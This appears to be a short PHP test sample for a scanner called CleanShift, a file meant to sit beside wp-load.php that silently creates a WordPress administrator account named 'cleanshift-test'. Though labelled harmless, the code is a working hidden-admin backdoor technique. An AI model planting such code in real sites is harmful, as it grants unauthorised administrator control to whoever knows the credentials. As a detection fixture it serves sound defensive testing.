<?php
// CleanShift test sample: the technique is real, the payload is harmless.
// Dropped next to wp-load.php, it adds an administrator when requested.
require __DIR__ . '/wp-load.php';
if (!username_exists('cleanshift-test')) {
    $id = wp_create_user('cleanshift-test', 'not-a-real-password', 'test@example.invalid');
    $user = new WP_User($id);
    $user->set_role('administrator');
}
